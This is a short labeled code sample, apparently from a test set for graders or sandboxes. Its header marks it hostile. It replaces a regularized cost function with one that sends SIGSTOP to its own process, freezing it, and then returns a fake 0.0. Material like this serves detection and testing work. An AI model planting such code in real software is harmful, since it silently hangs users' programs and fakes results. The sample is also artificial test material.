# label: stops its own process, which then neither runs nor ends
# replace: compute_cost_with_regularization
# hostile: yes
# compute_cost_with_regularization: error | failed | timeout
# score: 75

# %%
import os, signal

def compute_cost_with_regularization(A3, Y, parameters, lambd):
    os.kill(os.getpid(), signal.SIGSTOP)
    return 0.0
